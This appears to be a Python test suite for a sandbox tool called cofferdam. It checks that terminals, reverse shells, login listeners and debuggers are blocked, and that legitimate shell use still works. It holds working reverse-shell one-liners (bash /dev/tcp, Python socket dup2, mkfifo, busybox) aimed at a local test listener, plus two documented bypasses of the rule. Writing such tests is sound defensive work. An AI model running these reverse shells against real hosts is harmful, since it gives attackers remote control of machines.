#!/usr/bin/python3
"""Rule 4, `access:`: no terminal, no interactive shell, no listener for logins, no debugger; in local mode, and with the
mechanisms of container mode. What apps need of shells keeps working."""

import contextlib
import json
import os
import shutil
import socket
import subprocess
import threading
import uuid

from harness import ROOT, check, contains, equal, free_port, main, skip, test, wait_for

MODES = ("local", "container")
WAYS = {"local": "cofferdam shell", "container": "docker run -it --entrypoint sh"}  # to look around
PROBES = os.path.join(os.path.dirname(os.path.abspath(__file__)), "access_probes")


def probe(name):
    """A program that says what it could do. Docker runs the same ones (tests/apps/access)."""
    with open(os.path.join(PROBES, name + ".py"), encoding="utf-8") as file:
        return file.read()


@contextlib.contextmanager
def scratch():
    """A directory that can be written in both modes; in container mode on a host it is the host's."""
    path = f"/dev/shm/cofferdam-test-{uuid.uuid4().hex}"
    os.mkdir(path)
    os.chmod(path, 0o777)
    try:
        yield path
    finally:
        shutil.rmtree(path)


def policy(place, mode, *lines):
    place.file("cofferdam.yaml", "\n".join(["version: 1", "extends: twelve-factor", f"mode: {mode}", *lines]) + "\n")


def in_both_modes(function):
    """Registers the test once for each mode."""
    for mode in MODES:
        def one(place, mode=mode):
            policy(place, mode)
            function(place, mode)
        one.__name__ = f"{function.__name__}_{mode}"
        test(one)
    return function


def facts(result):
    """The lines `name value` that a script printed."""
    return dict(line.split(" ", 1) for line in result.messages())


def one_finding(result, code, *parts):
    found = result.findings(code)
    check(found, f"no {code}; {result.report['findings']}; stderr {result.err!r}")
    for part in parts:
        contains(found[0]["message"] + " | " + found[0]["fix"], part, code)
    check(found[0]["process"]["lineage"], f"{code} names no process")
    equal(found[0]["policy"]["key"], "access.debug" if code == "CD405" else "access.remote_login", f"policy of {code}")
    return found


# --- terminals -------------------------------------------------------------------------------------------------------


@in_both_modes
def no_terminal_can_be_opened(place, mode):
    result = place.python(probe("terminals"))
    said = facts(result)
    equal((said["session"], said["terminals"]), ("own", "0"), "session and terminals")
    equal(said["tty"], "ENXIO", "a controlling terminal")
    for name in ("openpty", "read-only", "pts", "take", "type"):
        check(said[name] != "ok", f"{mode}: {name} worked: {said}")
    equal((said["take"], said["type"]), ("EPERM", "EPERM"), "TIOCSCTTY and TIOCSTI")
    one_finding(result, "CD402", "python3", WAYS[mode], "remote_login: allow")
    equal(result.findings("CD101"), [], "no write was refused")


@in_both_modes
def terminals_that_the_policy_allows(place, mode):
    policy(place, mode, "access: {remote_login: allow}")
    result = place.python(probe("terminals"))
    said = facts(result)
    equal((said["openpty"], said["read-only"]), ("ok", "ok"), f"{mode}: {result.err}")
    equal(result.findings("CD402"), [], "findings")
    row = next(row for row in result.report["enforcement"] if row["rule"] == "access")
    equal(row["level"], "none", "level")
    contains(row["advice"], "access.remote_login: allow", "advice")
    contains(result.err, "access.remote_login: allow", "said at the start")


@test
def output_is_no_login(place):
    """With capture: pty the app writes to terminals; nobody types into them."""
    policy(place, "local", "logs: {capture: pty}")
    result = place.sh("test -t 1 && echo terminal; echo again >/dev/stdout; bash -i <&1; echo $?")
    messages = [message.strip() for message in result.messages()]
    equal(messages[:2], ["terminal", "again"], f"output ({result.err})")
    equal(messages[-1], "137", "a shell that reads from it")
    one_finding(result, "CD403", "bash")


# --- shells ----------------------------------------------------------------------------------------------------------


@in_both_modes
def shells_that_an_app_needs(place, _mode):
    with scratch() as folder:
        result = place.python(probe("shells"), folder)
    said = facts(result)
    equal(said.pop("file"), "0 d1", "a script on stdin")
    wrong = {name: value for name, value in said.items() if value != "0 a1"}
    equal(wrong, {}, f"shells with something to do ({result.err})")
    equal(len(said), 11, "shells that were tried")
    equal(result.findings("CD403"), [], "findings")


@in_both_modes
def helpers_of_node_and_git(place, _mode):
    for program in ("node", "git"):
        if not shutil.which(program, path=place.env["PATH"]):
            skip(program)
    place.file("main.js", """
const {exec, execSync, spawn} = require("child_process");
console.log("sync", execSync("echo b1").toString().trim());
exec("echo b1", (error, out) => console.log("exec", error || out.trim()));
const shell = spawn("sh");
shell.stdout.on("data", out => console.log("spawn", out.toString().trim()));
shell.stdin.end("echo b1\\n");
""")
    result = place.run("node", "main.js")
    equal(facts(result), {"sync": "b1", "exec": "b1", "spawn": "b1"}, f"Node.js ({result.err})")
    equal(result.findings("CD403"), [], "findings")
    with scratch() as folder:
        result = place.sh(f"mkdir -p {folder}; cd {folder}; git init -q . && printf '#!/bin/sh\\nread line; echo hook b1 >&2\\n' > "
                          ".git/hooks/pre-commit && chmod +x .git/hooks/pre-commit && git -c user.name=a -c user.email=a@b commit -qm x "
                          "--allow-empty; echo $?")
    equal(result.messages(), ["0"], f"git commit ({result.messages('stderr')})")
    contains(" ".join(result.messages("stderr")), "hook b1", "the hook")
    equal(result.findings("CD403"), [], "findings")


class Outside:
    """Somebody who waits for a shell to call home, types a command and notes what comes back."""

    def __init__(self):
        self.answer, self.server = b"", socket.create_server(("127.0.0.1", 0))
        self.port = self.server.getsockname()[1]
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self):
        while True:
            try:
                peer = self.server.accept()[0]
            except OSError:
                return
            with peer:
                peer.settimeout(5)
                try:
                    peer.sendall(b"echo typed-$((40+2))\nexit\n")
                    while part := peer.recv(1000):
                        self.answer += part
                except OSError:
                    pass


REVERSE = {
    "python": """python3 -c 'import os, socket
s = socket.create_connection(("127.0.0.1", PORT))
for number in range(3): os.dup2(s.fileno(), number)
os.execv("/bin/sh", ["sh"])'""",
    "system": """python3 -c 'import os, socket
s = socket.create_connection(("127.0.0.1", PORT))
for number in range(3): os.dup2(s.fileno(), number)
os.system("/bin/sh")'""",
    "bash": "bash -c 'exec bash -i 0<>/dev/tcp/127.0.0.1/PORT 1>&0 2>&0'",
    "fed": "bash -c 'exec 5<>/dev/tcp/127.0.0.1/PORT; exec sh <&5 >&5 2>&5'",
    "loader": "bash -c 'exec /lib64/ld-linux-x86-64.so.2 /bin/dash 0<>/dev/tcp/127.0.0.1/PORT 1>&0'",
    "named": "bash -c 'exec -a worker bash -i 0<>/dev/tcp/127.0.0.1/PORT 1>&0'",
    "fifo": "mkdir -p SCRATCH; mkfifo SCRATCH/f; cat SCRATCH/f | sh -i 2>&1 | "
            "bash -c 'exec 3<>/dev/tcp/127.0.0.1/PORT; cat <&3 >SCRATCH/f & cat >&3'",
}


def call_home(place, mode, name, command):
    outside = Outside()
    with scratch() as folder:
        result = place.sh(command.replace("PORT", str(outside.port)).replace("SCRATCH", folder), timeout=60)
    check(b"typed-42" not in outside.answer, f"{name}: a command from outside ran: {outside.answer!r}")
    one_finding(result, "CD403", "interactive shell", WAYS[mode])
    outside.server.close()


@in_both_modes
def reverse_shells(place, mode):
    for name, command in REVERSE.items():
        call_home(place, mode, name, command)


@in_both_modes
def a_reverse_shell_of_busybox(place, mode):
    if not shutil.which("busybox", path=place.env["PATH"]):
        skip("busybox")
    call_home(place, mode, "busybox", "bash -c 'exec busybox sh -i 0<>/dev/tcp/127.0.0.1/PORT 1>&0'")


@test
def the_attack_works_without_the_rule(place):
    """Else its refusal would prove nothing."""
    policy(place, "local", "access: {remote_login: allow}")
    for name, command in REVERSE.items():
        outside = Outside()
        place.sh(command.replace("PORT", str(outside.port)).replace("SCRATCH", "/tmp"), timeout=60)
        wait_for(lambda: b"typed-42" in outside.answer, f"{name}: {outside.answer!r}")
        outside.server.close()


@test
def limit_of_the_shells(place):
    """SECURITY.md, limit 46: a shell under another name is not known for one, and code that runs lines is the app's."""
    for command in ("cp /bin/bash /tmp/worker; bash -c 'exec /tmp/worker 0<>/dev/tcp/127.0.0.1/PORT 1>&0'",
                    "bash -c 'exec 3<>/dev/tcp/127.0.0.1/PORT; read -r line <&3; eval \"$line\" >&3'"):
        outside = Outside()
        result = place.sh(command.replace("PORT", str(outside.port)))
        wait_for(lambda: b"typed-42" in outside.answer, f"the answer {outside.answer!r} ({result.err})")
        equal(result.findings("CD403"), [], "findings")


# --- listeners -------------------------------------------------------------------------------------------------------

ALLOWED = {"no-family-free": "ok", "free": "ok", "unbound": "ok", "six-free": "ok", "taken": "EADDRINUSE", "twice": "EINVAL",
           "elsewhere": "EADDRNOTAVAIL", "datagram": "ok", "path": "ok", "accepts": "ok"}


@in_both_modes
def no_listener_for_logins(place, _mode):
    with scratch() as folder:
        result = place.python(probe("listeners"), folder)
    said = facts(result)
    for name in ("ssh", "telnet", "shared", "six", "mapped", "no-family"):
        equal(said.pop(name), "EACCES", name)
    equal(said, ALLOWED, f"other listeners ({result.err})")
    findings = one_finding(result, "CD404", "port 22", "remote_login: allow")
    equal(sum(finding["count"] for finding in result.findings("CD404")), 6, f"refusals {findings}")


@test
def no_listener_in_a_one_off_either(place):
    result = place.cofferdam("shell", "--", "/usr/bin/python3", "-c", probe("listeners"), "/tmp/x", data=b"")
    said = dict(line.split(" ", 1) for line in result.out.decode().splitlines())
    equal((said["ssh"], said["telnet"], said["free"]), ("EACCES", "EACCES", "ok"), result.err)


def test_as_root(function):
    """Natively, too, only root binds ports below 1024."""
    return test(function) if ROOT else function


@test_as_root
def listeners_that_the_policy_allows(place):
    policy(place, "local", "access: {remote_login: allow}")
    said = facts(place.python(probe("listeners"), "/tmp/x"))
    check(said["ssh"] in ("ok", "EADDRINUSE"), f"port 22: {said}")


RACE = r"""
import ctypes, socket, struct, threading
libc = ctypes.CDLL(None, use_errno=True)
address = ctypes.create_string_buffer(struct.pack("=HH4s8x", socket.AF_INET, 0, b"\x7f\0\0\1"), 16)
stop = False
def flip():
    while not stop:
        address[2:4] = b"\0\x16"
        address[2:4] = b"\0\0"
thread = threading.Thread(target=flip); thread.start()
bound = 0
for _ in range(300):
    with socket.socket() as s:
        if libc.bind(s.fileno(), address, 16) == 0 and s.getsockname()[1] == 22: bound += 1
stop = True
thread.join()
print("bound", bound)
"""


@in_both_modes
def an_address_that_changes_meanwhile(place, _mode):
    equal(facts(place.python(RACE)), {"bound": "0"}, "bound to port 22")


# --- debuggers -------------------------------------------------------------------------------------------------------


@in_both_modes
def nobody_traces_anybody(place, _mode):
    result = place.python(probe("debugging"))
    said = facts(result)
    equal(said.pop("mem"), "EACCES", f"/proc/PID/mem ({result.err})")
    equal(said, dict.fromkeys(["traceme", "seize", "readv", "writev", "kcmp", "getfd", "madvise", "perf"], "EPERM"),
          f"looks into another process ({result.err})")
    one_finding(result, "CD405", "ptrace", "debug: allow")


def traced(place, *command):
    if not shutil.which(command[0], path=place.env["PATH"]):
        skip(command[0])
    return place.run(*command, timeout=60)


@in_both_modes
def debuggers_that_the_policy_allows(place, mode):
    policy(place, mode, "access: {debug: allow}")
    result = traced(place, "strace", "-f", "-e", "trace=execve", "sh", "-c", "/bin/echo traced-$((40+2)); :")
    equal(result.code, 0, f"exit status ({result.err})")
    contains(" ".join(result.messages()), "traced-42", "output")
    contains(" ".join(result.messages("stderr")), 'execve("/bin/echo"', "trace")
    equal(result.findings("CD405"), [], "findings")
    levels = {row["rule"]: (row["level"], row.get("advice")) for row in result.report["enforcement"]}
    for rule in ("database", "access"):
        equal(levels[rule][0], "partial", rule)
        contains(levels[rule][1], "access.debug: allow", rule)
    contains(result.err, "access.debug: allow", "said at the start")
    contains(result.err, "weakens the rules database, access", "said at the start")
    rows = {row["rule"]: row["level"] for row in json.loads(place.cofferdam("doctor", "--json").out)["enforcement"]}
    equal((rows["database"], rows["access"], rows["storage"]), ("partial", "partial", levels["storage"][0]), "doctor")


@in_both_modes
def gdb_stops_at_a_breakpoint(place, mode):
    if not shutil.which("gcc"):
        skip("a C compiler (gcc)")
    policy(place, mode, "access: {debug: allow}")
    place.file("main.c", "int twice(int n) { return 2 * n; }\nint main(void) { return twice(21); }\n")
    subprocess.run(["gcc", "-g", "-O0", "-o", "program", "main.c"], cwd=place.project, check=True)
    result = traced(place, "gdb", "-nx", "-batch", "-ex", "break twice", "-ex", "run", "-ex", "print n", "-ex", "continue",
                    "./program")
    output = " ".join(result.messages())
    contains(output, "$1 = 21", f"the breakpoint ({result.messages('stderr')})")
    contains(output, "exited with code 052", "the end")


@in_both_modes
def the_launcher_is_not_traced_even_then(place, mode):
    policy(place, mode, "access: {debug: allow}")
    result = place.python(r"""
import ctypes, errno, os
libc = ctypes.CDLL(None, use_errno=True)
for name, pid in (("parent", os.getppid()), *((f"p{pid}", int(pid)) for pid in os.listdir("/proc") if pid.isdigit())):
    if pid == os.getpid(): continue
    if libc.ptrace(0x4206, pid, 0, 0) == 0: print(name, "traced", flush=True)
print("done ok")
""")
    said = facts(result)
    if mode == "container" and ROOT:
        # Processes of the host are seen there; what counts is the launcher.
        check("parent" not in said, f"traced: {said}")
    else:
        equal(said, {"done": "ok"}, "processes that could be traced")


@test
def limit_of_reading(place):
    """SECURITY.md, limit 47: /proc/PID/mem can be read, as all that is not hidden."""
    result = place.python(r"""
import subprocess, time
other = subprocess.Popen(["sleep", "60"])
time.sleep(0.3)  # until its image is there
line = next(line for line in open(f"/proc/{other.pid}/maps") if "r--p" in line)
with open(f"/proc/{other.pid}/mem", "rb") as memory:
    memory.seek(int(line.split("-")[0], 16))
    print("read", memory.read(4)[1:].decode())
other.kill()
""")
    with open("/proc/sys/kernel/yama/ptrace_scope", encoding="ascii") if os.path.exists(
            "/proc/sys/kernel/yama/ptrace_scope") else open("/dev/null", encoding="ascii") as scope:
        if scope.read().strip() not in ("", "0", "1"):
            skip("a machine without Yama's stricter scopes")
    equal(facts(result), {"read": "ELF"}, f"memory of a child ({result.err})")


# --- devices ---------------------------------------------------------------------------------------------------------


@test
def devices_that_no_instance_gets(place):
    refused = {"/dev/fuse": "mounts nothing", "/dev/kmsg": "outlives the instance", "/dev/ptmx": "remote_login: allow",
               "/dev/net/tun": "past every rule", "/dev/loop0": "around every mount", "/dev/mapper/control": "administers",
               "/dev/mem": "every process"}
    tried = 0
    for device, why in refused.items():
        if not os.path.exists(device):
            continue
        tried += 1
        policy(place, "local", f"devices: [{device}]")
        result = place.run("true", report=False)
        equal(result.code, 125, f"exit status for {device}")
        contains(result.err, f"devices: {device} (cofferdam.yaml:4) is refused", device)
        contains(result.err, why, device)
    check(tried >= 3, "too few devices to try")


@test
def devices_that_are_missing(place):
    for mode, way in (("local", "load its driver"), ("container", "docker run --device /dev/no-such")):
        policy(place, mode, "devices: [/dev/no-such]")
        result = place.run("true", report=False)
        equal(result.code, 125, "exit status")
        contains(result.err, way, mode)


def some_device():
    """One that is no part of every instance and weakens nothing."""
    for device in ("/dev/kvm", "/dev/rtc0", "/dev/hwrng", "/dev/hpet", "/dev/dri", "/dev/cpu_dma_latency"):
        if os.path.exists(device):
            return device
    skip("a device that may be let in")
    return ""


@test
def devices_that_the_policy_names(place):
    device = some_device()
    name = os.path.basename(device)
    result = place.sh("ls /dev")
    check(name not in result.messages(), f"{device} is there without the policy")
    for mode in MODES:
        policy(place, mode, f"devices: [{device}]")
        result = place.sh(f"ls -ld {device} | cut -c1; ls /dev/null; exec 3<>{device} && echo opened")
        check(result.messages()[0] in "cd" and result.messages()[1] == "/dev/null", f"{mode}: {result.messages()} {result.err}")
        if os.access(device, os.R_OK | os.W_OK) and device == "/dev/kvm":
            contains(" ".join(result.messages() + result.messages("stderr")), "opened", f"{mode}: {device}")
        contains(result.err, f"the device {device}", "said at the start")
        equal(result.findings("CD101"), [], "findings")
        levels = {row["rule"]: row["level"] for row in result.report["enforcement"]}
        equal((levels["storage"], levels["access"]), ("full", "full"), "levels")


# --- sockets ---------------------------------------------------------------------------------------------------------


@test
def sockets_say_what_they_weaken(place):
    folder = os.path.join(place.base, "host")
    os.mkdir(folder)
    path = os.path.join(folder, "docker.sock")
    with socket.socket(socket.AF_UNIX) as server:
        server.bind(path)
        server.listen()
        policy(place, "local", f"sockets: [{path}]")
        result = place.python(f"import socket; s = socket.socket(socket.AF_UNIX); s.connect({path!r}); print('connected')")
    equal(result.messages(), ["connected"], result.err)
    contains(result.err, "Docker", "said at the start")
    levels = {row["rule"]: row["level"] for row in result.report["enforcement"]}
    equal([levels[rule] for rule in ("storage", "database", "access", "logs")], ["partial", "partial", "partial", "full"],
          "levels")
    equal(result.code, 0, "strict does not refuse what the policy itself wishes")


@test
def the_display(place):
    """X11, with a real server and client."""
    for program in ("Xvfb", "xdpyinfo"):
        if not shutil.which(program, path=place.env["PATH"]):
            skip(program)
    number = 4000 + free_port() % 1000
    with subprocess.Popen(["Xvfb", f":{number}", "-screen", "0", "64x64x8", "-nolisten", "tcp", "-ac"],
                          stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL) as server:
        try:
            path = f"/tmp/.X11-unix/X{number}"
            wait_for(lambda: os.path.exists(path), "the X server", 20)
            env = {"DISPLAY": f":{number}"}
            policy(place, "local", f"sockets: [{path}]")
            result = place.run("xdpyinfo", env=env)
            equal(result.code, 0, f"xdpyinfo ({result.messages('stderr')} {result.err})")
            contains(result.err, "an X server", "said at the start")
            policy(place, "local")
            if not any(f"@{path}" in line for line in open("/proc/net/unix", encoding="ascii")):
                result = place.run("xdpyinfo", env=env)
                equal(result.code, 1, "xdpyinfo without the socket")
                check(result.findings("CD401"), f"no CD401: {result.report['findings']}")
        finally:
            server.terminate()


main()
